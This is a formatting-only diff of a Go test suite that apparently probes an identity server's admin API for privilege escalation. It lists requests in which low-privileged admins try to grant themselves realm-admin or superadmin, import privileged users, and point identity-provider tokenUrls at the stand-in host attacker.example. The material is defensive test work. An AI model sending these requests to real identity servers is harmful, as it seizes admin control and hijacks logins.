@@ -73,7 +73,8 @@ func attempts() []attempt {
 		{"PUT", "/clients/{c:realm-management}/roles/manage-realm", `{"name":"away"}`},
 		{"PUT", "/clients/{c:realm-management}/roles/query-users", `{"name":"manage-realm"}`},
 		{"PUT", "/clients/{c:realm-management}/roles/{self}", `{"name":"realm-admin"}`},
-		{"POST", "/clients/{c:realm-management}/roles", `{"name":"new","composite":true,"composites":{"client":{"realm-management":["realm-admin"]}}}`},
+		{"POST", "/clients/{c:realm-management}/roles",
+			`{"name":"new","composite":true,"composites":{"client":{"realm-management":["realm-admin"]}}}`},
 		{"DELETE", "/clients/{c:realm-management}/roles/manage-events", ""},
 		{"PUT", "/clients/{c:realm-management}/roles/manage-realm/management/permissions", `{"enabled":true}`},
 		{"PUT", "/roles-by-id/{a:manage-realm}", `{"name":"away"}`},
@@ -104,15 +105,18 @@ func attempts() []attempt {
 		{"PUT", "", `{"defaultGroups":["/admins"]}`},
 		{"PUT", "/ui-ext", `{"defaultGroups":["/admins"]}`},
 		{"PUT", "/ui-ext", `{"defaultRoles":["superadmin"],"defaultRole":{"id":"{r:superadmin}","name":"superadmin"}}`},
-		{"POST", "/ui-ext/role-mapping-delete/users/{u:boss}", `[{"roleId":"{a:realm-admin}","roleName":"realm-admin","clientId":"{c:realm-management}"}]`},
-		{"POST", "/ui-ext/role-mapping-delete/groups/{g:admins}", `[{"roleId":"{a:realm-admin}","clientId":"{c:realm-management}"},{"roleId":"{r:superadmin}"}]`},
+		{"POST", "/ui-ext/role-mapping-delete/users/{u:boss}",
+			`[{"roleId":"{a:realm-admin}","roleName":"realm-admin","clientId":"{c:realm-management}"}]`},
+		{"POST", "/ui-ext/role-mapping-delete/groups/{g:admins}",
+			`[{"roleId":"{a:realm-admin}","clientId":"{c:realm-management}"},{"roleId":"{r:superadmin}"}]`},
 		{"POST", "/ui-ext/role-mapping-delete/roles/{a:realm-admin}", `[{"roleId":"{a:manage-realm}","clientId":"{c:realm-management}"}]`},
 		{"POST", "/ui-ext/role-mapping-delete/roles/{r:superadmin}", `[{"roleId":"{a:realm-admin}","clientId":"{c:realm-management}"}]`},
 		{"POST", "/ui-ext/role-mapping-delete/clients/{c:app}", `[{"roleId":"{a:realm-admin}","clientId":"{c:realm-management}"}]`},
 		{"POST", "/ui-ext/role-mapping-delete/clientScopes/{s:extra}", `[{"roleId":"{a:realm-admin}","clientId":"{c:realm-management}"}]`},
 		{"PUT", "", `{"defaultRoles":["superadmin"],"defaultRole":{"id":"{r:superadmin}","name":"superadmin"}}`},
 		{"POST", "/users", `{"username":"late","enabled":true,"credentials":[{"type":"password","value":"` + password + `"}]}`},
-		{"POST", "/users", `{"username":"joined","enabled":true,"groups":["/admins"],"credentials":[{"type":"password","value":"` + password + `"}]}`},
+		{"POST", "/users", `{"username":"joined","enabled":true,"groups":["/admins"],"credentials":[{"type":"password","value":"` +
+			password + `"}]}`},
 		{"POST", "/users", `{"username":"roled","enabled":true,"realmRoles":["superadmin"],"clientRoles":{"realm-management":["realm-admin"]},"credentials":[{"type":"password","value":"` + password + `"}]}`},
 		{"PUT", "/users/{u:self}/groups/{g:admins}", ""},
 		{"PUT", "/users/{u:self}/groups/{g:below}", ""},
@@ -126,8 +130,10 @@ func attempts() []attempt {
 		{"DELETE", "/groups/{g:admins}", ""},
 		{"DELETE", "/groups/{g:admins}/role-mappings/realm", `[{"id":"{r:superadmin}","name":"superadmin"}]`},
 		{"DELETE", "/groups/{g:admins}/role-mappings/clients/{c:realm-management}", `[{"id":"{a:realm-admin}","name":"realm-admin"}]`},
-		{"POST", "/partialImport", `{"ifResourceExists":"OVERWRITE","identityProviders":[{"alias":"trusted","providerId":"oidc","config":{"tokenUrl":"https://attacker.example/t"}}]}`},
-		{"POST", "/partialImport", `{"ifResourceExists":"SKIP","identityProviders":[{"alias":"theirs","providerId":"oidc","config":{"allowAdminRoleMapping":"true"}}],
+		{"POST", "/partialImport",
+			`{"ifResourceExists":"OVERWRITE","identityProviders":[{"alias":"trusted","providerId":"oidc","config":{"tokenUrl":"https://attacker.example/t"}}]}`},
+		{"POST", "/partialImport",
+			`{"ifResourceExists":"SKIP","identityProviders":[{"alias":"theirs","providerId":"oidc","config":{"allowAdminRoleMapping":"true"}}],
 			"identityProviderMappers":[{"name":"d","identityProviderAlias":"theirs","identityProviderMapper":"oidc-hardcoded-role-idp-mapper","config":{"role":"superadmin"}}]}`},
 		// those with more rights
 		{"PUT", "/users/{u:boss}/reset-password", `{"type":"password","value":"` + password + `"}`},
@@ -153,13 +159,20 @@ func attempts() []attempt {
 		// identity providers and their mappers
 		{"POST", "/identity-provider/instances", `{"alias":"mine","providerId":"oidc","config":{"allowAdminRoleMapping":"true"}}`},
 		{"POST", "/identity-provider/instances", `{"alias":"mine","providerId":"oidc","config":{"tokenUrl":"https://attacker.example/t"}}`},
-		{"PUT", "/identity-provider/instances/trusted", `{"alias":"trusted","providerId":"oidc","config":{"tokenUrl":"https://attacker.example/t","allowAdminRoleMapping":"true"}}`},
-		{"PUT", "/identity-provider/instances/trusted", `{"alias":"trusted","providerId":"oidc","config":{"tokenUrl":"https://attacker.example/t"}}`},
-		{"POST", "/identity-provider/instances/trusted/mappers", `{"name":"a","identityProviderAlias":"trusted","identityProviderMapper":"oidc-hardcoded-role-idp-mapper","config":{"role":"realm-management.realm-admin"}}`},
-		{"POST", "/identity-provider/instances/trusted/mappers", `{"name":"b","identityProviderAlias":"mine","identityProviderMapper":"oidc-hardcoded-role-idp-mapper","config":{"role":"superadmin"}}`},
-		{"POST", "/identity-provider/instances/trusted/mappers", `{"name":"c","identityProviderAlias":"mine","identityProviderMapper":"oidc-hardcoded-group-idp-mapper","config":{"group":"/admins/below"}}`},
-		{"PUT", "/identity-provider/instances/trusted/mappers/" + giverID, `{"name":"giver","identityProviderAlias":"trusted","identityProviderMapper":"oidc-hardcoded-role-idp-mapper","config":{"role":"realm-management.realm-admin"}}`},
-		{"PUT", "/identity-provider/instances/trusted/mappers/" + giverID, `{"name":"giver","identityProviderAlias":"mine","identityProviderMapper":"oidc-hardcoded-role-idp-mapper","config":{"role":"plain"}}`},
+		{"PUT", "/identity-provider/instances/trusted",
+			`{"alias":"trusted","providerId":"oidc","config":{"tokenUrl":"https://attacker.example/t","allowAdminRoleMapping":"true"}}`},
+		{"PUT", "/identity-provider/instances/trusted",
+			`{"alias":"trusted","providerId":"oidc","config":{"tokenUrl":"https://attacker.example/t"}}`},
+		{"POST", "/identity-provider/instances/trusted/mappers",
+			`{"name":"a","identityProviderAlias":"trusted","identityProviderMapper":"oidc-hardcoded-role-idp-mapper","config":{"role":"realm-management.realm-admin"}}`},
+		{"POST", "/identity-provider/instances/trusted/mappers",
+			`{"name":"b","identityProviderAlias":"mine","identityProviderMapper":"oidc-hardcoded-role-idp-mapper","config":{"role":"superadmin"}}`},
+		{"POST", "/identity-provider/instances/trusted/mappers",
+			`{"name":"c","identityProviderAlias":"mine","identityProviderMapper":"oidc-hardcoded-group-idp-mapper","config":{"group":"/admins/below"}}`},
+		{"PUT", "/identity-provider/instances/trusted/mappers/" + giverID,
+			`{"name":"giver","identityProviderAlias":"trusted","identityProviderMapper":"oidc-hardcoded-role-idp-mapper","config":{"role":"realm-management.realm-admin"}}`},
+		{"PUT", "/identity-provider/instances/trusted/mappers/" + giverID,
+			`{"name":"giver","identityProviderAlias":"mine","identityProviderMapper":"oidc-hardcoded-role-idp-mapper","config":{"role":"plain"}}`},
 		{"DELETE", "/users/{u:boss}/role-mappings/clients/{c:realm-management}", `[{"id":"{a:realm-admin}","name":"realm-admin"}]`},
 		{"DELETE", "/users/{u:boss}/role-mappings/realm", ""},
 		{"DELETE", "/sessions/{session}", ""},
@@ -194,7 +207,8 @@ func attempts() []attempt {
 			list = append(list, attempt{"POST", at + "/role-mappings/clients/{c:realm-management}", role},
 				attempt{"DELETE", at + "/role-mappings/clients/{c:realm-management}", role})
 		}
-		for _, at := range []string{"/roles/plain", "/roles/default-roles-{realm}", "/roles-by-id/{r:plain}", "/roles-by-id/{a:query-users}", "/clients/{c:app}/roles/inner",
+		for _, at := range []string{"/roles/plain", "/roles/default-roles-{realm}", "/roles-by-id/{r:plain}", "/roles-by-id/{a:query-users}",
+			"/clients/{c:app}/roles/inner",
 			"/clients/{c:realm-management}/roles/query-users"} {
 			list = append(list, attempt{"POST", at + "/composites", role})
 		}
@@ -206,7 +220,8 @@ func attempts() []attempt {
 		composites := `"composite":true,"composites":{"client":{"realm-management":["` + name + `"]}}`
 		for i, part := range []string{
 			`"users":[{"username":"by-import","enabled":true,` + given + `,"credentials":[{"type":"password","value":"` + password + `"}]}]`,
-			`"users":[{"username":"by-group","enabled":true,"groups":["/admins/below"],"credentials":[{"type":"password","value":"` + password + `"}]}]`,
+			`"users":[{"username":"by-group","enabled":true,"groups":["/admins/below"],"credentials":[{"type":"password","value":"` +
+				password + `"}]}]`,
 			`"users":[{"username":"boss","enabled":true,"credentials":[{"type":"password","value":"` + password + `"}]}]`,
 			`"users":[{"username":"service-account-robot","enabled":true,"serviceAccountClientId":"robot",` + given + `}]`,
 			`"users":[{"username":"service-account-app","enabled":true,"serviceAccountClientId":"app",` + given + `}]`,
@@ -218,11 +233,14 @@ func attempts() []attempt {
 			`"roles":{"client":{"app":[{"name":"inner",` + composites + `}]}}`,
 			`"roles":{"client":{"realm-management":[{"name":"` + name + `"}]}}`,
 			`"roles":{"client":{"realm-management":[{"name":"query-users",` + composites + `}]}}`,
-			`"roles":{"realm":[{"id":"{a:` + name + `}","name":"fake"}]},"users":[{"username":"by-fake","enabled":true,"realmRoles":["fake"],"credentials":[{"type":"password","value":"` + password + `"}]}]`,
+			`"roles":{"realm":[{"id":"{a:` + name +
+				`}","name":"fake"}]},"users":[{"username":"by-fake","enabled":true,"realmRoles":["fake"],"credentials":[{"type":"password","value":"` +
+				password + `"}]}]`,
 			`"clients":[{"clientId":"realm-management"}]`,
 			`"clients":[{"clientId":"robot","secret":"` + password + `","serviceAccountsEnabled":true}]`,
 			`"clients":[{"clientId":"imported","secret":"` + password + `","protocolMappers":[` + hardcoded + `]}]`,
-			`"clients":[{"clientId":"imported","serviceAccountsEnabled":true,"secret":"` + password + `"}],"users":[{"username":"service-account-imported","enabled":true,"serviceAccountClientId":"imported",` + given + `}]`,
+			`"clients":[{"clientId":"imported","serviceAccountsEnabled":true,"secret":"` + password +
+				`"}],"users":[{"username":"service-account-imported","enabled":true,"serviceAccountClientId":"imported",` + given + `}]`,
 		} {
 			if i < 6 || name == "realm-admin" || strings.Contains(part, name) {
 				list = append(list, attempt{"POST", "/partialImport", `{"ifResourceExists":"OVERWRITE",` + part + `}`})
@@ -230,16 +248,20 @@ func attempts() []attempt {
 		}
 	}
 	super := `[{"id":"{r:superadmin}","name":"superadmin"}]`
-	for _, at := range []string{"/users/{u:self}/role-mappings/realm", "/groups/{g:plain}/role-mappings/realm", "/roles/default-roles-{realm}/composites", "/roles/plain/composites",
-		"/clients/{c:app}/scope-mappings/realm", "/client-scopes/{s:extra}/scope-mappings/realm", "/client-templates/{s:extra}/scope-mappings/realm"} {
+	for _, at := range []string{"/users/{u:self}/role-mappings/realm", "/groups/{g:plain}/role-mappings/realm",
+		"/roles/default-roles-{realm}/composites", "/roles/plain/composites",
+		"/clients/{c:app}/scope-mappings/realm", "/client-scopes/{s:extra}/scope-mappings/realm",
+		"/client-templates/{s:extra}/scope-mappings/realm"} {
 		list = append(list, attempt{"POST", at, super})
 		if !strings.HasSuffix(at, "/composites") {
 			list = append(list, attempt{"DELETE", at, super})
 		}
 	}
 	for _, at := range []string{"/clients/{c:app}", "/clients/{c:robot}", "/client-scopes/{s:extra}", "/client-templates/{s:extra}"} {
-		list = append(list, attempt{"POST", at + "/protocol-mappers/models", hardcoded}, attempt{"POST", at + "/protocol-mappers/add-models", "[" + hardcoded + "]"},
-			attempt{"PUT", at + "/protocol-mappers/models/{m:audience}", hardcoded}, attempt{"DELETE", at + "/protocol-mappers/models/{m:audience}", ""})
+		list = append(list, attempt{"POST", at + "/protocol-mappers/models", hardcoded}, attempt{"POST", at + "/protocol-mappers/add-models",
+			"[" + hardcoded + "]"},
+			attempt{"PUT", at + "/protocol-mappers/models/{m:audience}", hardcoded},
+			attempt{"DELETE", at + "/protocol-mappers/models/{m:audience}", ""})
 	}
 	return list
 }
@@ -248,17 +270,30 @@ const hardcoded = `{"name":"role","protocol":"openid-connect","protocolMapper":"
 
 // harmless are the routes that change nobody's rights, with the reason.
 var harmless = map[string]string{
-	"POST /admin/realms": "another realm; needs a role of the master realm", "DELETE /admin/realms/{realm}": "nothing is left to have rights over",
-	"POST /admin/realms/{realm}/testSMTPConnection": "sends a mail to whoever asks", "POST /admin/realms/{realm}/clear-": "caches", "/default-default-client-scopes": "which scopes new clients get", "/default-optional-client-scopes": "the same",
-	"POST /admin/realms/{realm}/partial-export": "reads", "/management/permissions": "switched off", "/trust/": "makes a client and a provider, and asks for the rights of both realms", "/identity-provider/import-config": "reads", "/identity-provider/upload-certificate": "reads",
-	"DELETE /admin/realms/{realm}/identity-provider/instances/{alias}": "takes away", "DELETE /admin/realms/{realm}/identity-provider/instances/{alias}/mappers/{mapper}": "takes away", "PUT /admin/realms/{realm}/users-management-permissions": "switched off",
-	"/localization/": "texts", "/components": "keys, policies and profiles: whoever manages the realm may choose who signs its tokens", "/client-policies/": "conditions on clients",
-	"/authentication/": "how one proves who one is", "PUT /admin/realms/{realm}/client-scopes/{scope}": "names and texts", "DELETE /admin/realms/{realm}/client-scopes/{scope}": "takes away",
-	"PUT /admin/realms/{realm}/client-templates/{scope}": "names and texts", "DELETE /admin/realms/{realm}/client-templates/{scope}": "takes away",
-	"DELETE /admin/realms/{realm}/clients-initial-access/{token}": "takes away", "POST /admin/realms/{realm}/client-description-converter": "reads",
-	"POST /admin/realms/{realm}/logout-all": "ends sessions", "POST /admin/realms/{realm}/push-revocation": "tells", "DELETE /admin/realms/{realm}/events": "forgets",
-	"DELETE /admin/realms/{realm}/admin-events": "forgets", "PUT /admin/realms/{realm}/events/config": "what is kept", "/deliveries/": "tells again",
-	"PUT /admin/realms/{realm}/users/profile": "which attributes there are", "DELETE /admin/realms/{realm}/attack-detection/brute-force/users": "forgets",
+	"POST /admin/realms":                            "another realm; needs a role of the master realm",
+	"DELETE /admin/realms/{realm}":                  "nothing is left to have rights over",
+	"POST /admin/realms/{realm}/testSMTPConnection": "sends a mail to whoever asks", "POST /admin/realms/{realm}/clear-": "caches",
+	"/default-default-client-scopes": "which scopes new clients get", "/default-optional-client-scopes": "the same",
+	"POST /admin/realms/{realm}/partial-export": "reads", "/management/permissions": "switched off",
+	"/trust/": "makes a client and a provider, and asks for the rights of both realms", "/identity-provider/import-config": "reads",
+	"/identity-provider/upload-certificate":                                             "reads",
+	"DELETE /admin/realms/{realm}/identity-provider/instances/{alias}":                  "takes away",
+	"DELETE /admin/realms/{realm}/identity-provider/instances/{alias}/mappers/{mapper}": "takes away",
+	"PUT /admin/realms/{realm}/users-management-permissions":                            "switched off",
+	"/localization/": "texts", "/components": "keys, policies and profiles: whoever manages the realm may choose who signs its tokens",
+	"/client-policies/": "conditions on clients",
+	"/authentication/":  "how one proves who one is", "PUT /admin/realms/{realm}/client-scopes/{scope}": "names and texts",
+	"DELETE /admin/realms/{realm}/client-scopes/{scope}":          "takes away",
+	"PUT /admin/realms/{realm}/client-templates/{scope}":          "names and texts",
+	"DELETE /admin/realms/{realm}/client-templates/{scope}":       "takes away",
+	"DELETE /admin/realms/{realm}/clients-initial-access/{token}": "takes away",
+	"POST /admin/realms/{realm}/client-description-converter":     "reads",
+	"POST /admin/realms/{realm}/logout-all":                       "ends sessions", "POST /admin/realms/{realm}/push-revocation": "tells",
+	"DELETE /admin/realms/{realm}/events":       "forgets",
+	"DELETE /admin/realms/{realm}/admin-events": "forgets", "PUT /admin/realms/{realm}/events/config": "what is kept",
+	"/deliveries/": "tells again",
+	"PUT /admin/realms/{realm}/users/profile":                         "which attributes there are",
+	"DELETE /admin/realms/{realm}/attack-detection/brute-force/users": "forgets",
 	"/workflows": "not built: does nothing", "/organizations": "not built: does nothing", "/client-types": "not built: does nothing",
 	"/doctor/": "asks for the rights of the changes that it makes, by the same rule", "POST /admin/realms/{realm}/inspect-token": "reads",
 }
@@ -328,7 +363,8 @@ func (w *town) learn() {
 	}
 	w.componentIDs = append(w.componentIDs, "{config}")
 	for key, at := range map[string][3]string{
-		"{c:secret-keeper}": {"/clients?clientId=secret-keeper", "clientId", "secret-keeper"}, "{c:by-import}": {"/clients?clientId=by-import", "clientId", "by-import"},
+		"{c:secret-keeper}": {"/clients?clientId=secret-keeper", "clientId", "secret-keeper"}, "{c:by-import}": {"/clients?clientId=by-import",
+			"clientId", "by-import"},
 		"{u:secretive}": {"/users?username=secretive", "username", "secretive"}, "{u:hashed}": {"/users?username=hashed", "username", "hashed"},
 		"{u:with-hash}": {"/users?username=with-hash", "username", "with-hash"},
 	} {
@@ -352,7 +388,8 @@ func newTown(t *testing.T, s *harness.Server, name string, rights ...string) *to
 		quoted, _ := json.Marshal(strings.Fields(list))
 		attackers = append(attackers, user(attacker(i), `,"clientRoles":{"realm-management":`+string(quoted)+`}`))
 	}
-	doc := `{"realm":"` + name + `","enabled":true,"defaultSignatureAlgorithm":"ES256","passwordPolicy":"hashAlgorithm(pbkdf2-sha256) and hashIterations(1)",
+	doc := `{"realm":"` + name +
+		`","enabled":true,"defaultSignatureAlgorithm":"ES256","passwordPolicy":"hashAlgorithm(pbkdf2-sha256) and hashIterations(1)",
 		"components":{"org.keycloak.keys.KeyProvider":[{"name":"es","providerId":"ecdsa-generated","config":{"ecdsaEllipticCurveKey":["P-256"]}},
 			{"name":"hs","providerId":"hmac-generated","config":{"algorithm":["HS512"]}}, {"name":"aes","providerId":"aes-generated","config":{}}],
 			"org.keycloak.storage.UserStorageProvider":[{"name":"ldap","providerId":"ldap","config":{"enabled":["false"],"bindCredential":["planted-bind-credential"]}}]},
@@ -370,7 +407,8 @@ func newTown(t *testing.T, s *harness.Server, name string, rights ...string) *to
 	_, err := w.root.Post(ctx, "", json.RawMessage(doc))
 	w.must(err)
 	var scope string
-	scope, err = w.root.Post(ctx, "/"+name+"/client-scopes", json.RawMessage(`{"name":"extra","protocol":"openid-connect","protocolMappers":[`+audience+`]}`))
+	scope, err = w.root.Post(ctx, "/"+name+"/client-scopes", json.RawMessage(`{"name":"extra","protocol":"openid-connect","protocolMappers":[`+
+		audience+`]}`))
 	w.must(err)
 	pairs := []string{"{s:extra}", scope, "{realm}", name, "{self}", strings.Fields(rights[0])[0]}
 	id := func(key, at, member, value string) string {
@@ -407,7 +445,8 @@ func newTown(t *testing.T, s *harness.Server, name string, rights ...string) *to
 const (
 	giverID    = "0d2c4f0e-6e57-4a3b-8d3c-3f2a52d1a002"
 	audienceID = "0d2c4f0e-6e57-4a3b-8d3c-3f2a52d1a001"
-	audience   = `{"id":"` + audienceID + `","name":"audience","protocol":"openid-connect","protocolMapper":"oidc-audience-mapper","config":{"included.custom.audience":"x","access.token.claim":"true"}}`
+	audience   = `{"id":"` + audienceID +
+		`","name":"audience","protocol":"openid-connect","protocolMapper":"oidc-audience-mapper","config":{"included.custom.audience":"x","access.token.claim":"true"}}`
 )
 
 func (w *town) must(err error) {
@@ -436,7 +475,8 @@ func (w *town) grant(form url.Values) string {
 // ask sends an attempt and returns its status and answer.
 func (w *town) ask(token string, a attempt) (int, string) {
 	w.t.Helper()
-	r, err := http.NewRequestWithContext(w.t.Context(), a.method, w.base+"/admin/realms/"+w.realm+w.ids.Replace(a.path), strings.NewReader(w.ids.Replace(a.body)))
+	r, err := http.NewRequestWithContext(w.t.Context(), a.method, w.base+"/admin/realms/"+w.realm+w.ids.Replace(a.path),
+		strings.NewReader(w.ids.Replace(a.body)))
 	w.must(err)
 	r.Header.Set("Authorization", "Bearer "+token)
 	if strings.HasSuffix(a.path, "/userLabel") {
@@ -466,7 +506,8 @@ func rights(token string) []string {
 	_ = json.Unmarshal(data, &claims)
 	var list []string
 	for right, by := range roles.RightNames {
-		if !strings.HasPrefix(right, "query-") && slices.ContainsFunc(by, func(role string) bool { return slices.Contains(claims.Access["realm-management"].Roles, role) }) {
+		if !strings.HasPrefix(right, "query-") && slices.ContainsFunc(by,
+			func(role string) bool { return slices.Contains(claims.Access["realm-management"].Roles, role) }) {
 			list = append(list, right)
 		}
 	}
@@ -479,7 +520,8 @@ func rights(token string) []string {
 func (w *town) check(what string, had []string) bool {
 	w.t.Helper()
 	within := map[string]string{"self": w.token("self", "own of self")}
-	for _, name := range []string{"boss", "chief", "victim", "late", "joined", "roled", "by-import", "by-fake", "by-group", "service-account-robot"} {
+	for _, name := range []string{"boss", "chief", "victim", "late", "joined", "roled", "by-import", "by-fake", "by-group",
+		"service-account-robot"} {
 		within[name] = w.token(name, password)
 	}
 	for _, name := range []string{"robot", "fresh", "mapped", "imported", "app"} {
@@ -597,14 +639,16 @@ func TestImpersonatorIsNamed(t *testing.T) {
 		w := newTown(t, s, "stage", "impersonation")
 		ctx := t.Context()
 		w.must(w.root.Put(ctx, "/stage", json.RawMessage(`{"eventsEnabled":true,"enabledEventTypes":["CODE_TO_TOKEN","REFRESH_TOKEN"]}`)))
-		_, err := w.root.Post(ctx, "/stage/clients", json.RawMessage(`{"clientId":"desk","secret":"desk-secret","redirectUris":["http://app.example/*"],"protocolMappers":[
+		_, err := w.root.Post(ctx, "/stage/clients",
+			json.RawMessage(`{"clientId":"desk","secret":"desk-secret","redirectUris":["http://app.example/*"],"protocolMappers":[
 			{"name":"aud","protocol":"openid-connect","protocolMapper":"oidc-audience-mapper","config":{"included.client.audience":"desk","access.token.claim":"true"}},
 			{"name":"act","protocol":"openid-connect","protocolMapper":"oidc-hardcoded-claim-mapper","config":{"claim.name":"act.sub","claim.value":"nobody","access.token.claim":"true","id.token.claim":"true"}}]}`))
 		w.must(err)
 		var claims struct{ Sub string }
 		token := w.token("self", "own of self")
 		w.must(json.Unmarshal(payload(token), &claims))
-		r, err := http.NewRequestWithContext(ctx, http.MethodPost, w.base+"/admin/realms/stage"+w.ids.Replace("/users/{u:victim}/impersonation"), nil)
+		r, err := http.NewRequestWithContext(ctx, http.MethodPost, w.base+"/admin/realms/stage"+w.ids.Replace("/users/{u:victim}/impersonation"),
+			nil)
 		w.must(err)
 		r.Header.Set("Authorization", "Bearer "+token)
 		res, err := http.DefaultClient.Do(r)
@@ -630,7 +674,8 @@ func TestImpersonatorIsNamed(t *testing.T) {
 		told, err := json.Marshal(inspected.Members)
 		w.must(err)
 		for what, text := range map[string][]byte{
-			"access token": payload(first.Access), "ID token": payload(first.ID), "refreshed access token": payload(again.Access), "introspection": told,
+			"access token": payload(first.Access), "ID token": payload(first.ID), "refreshed access token": payload(again.Access),
+			"introspection": told,
 		} {
 			var c struct {
 				Name string `json:"preferred_username"`
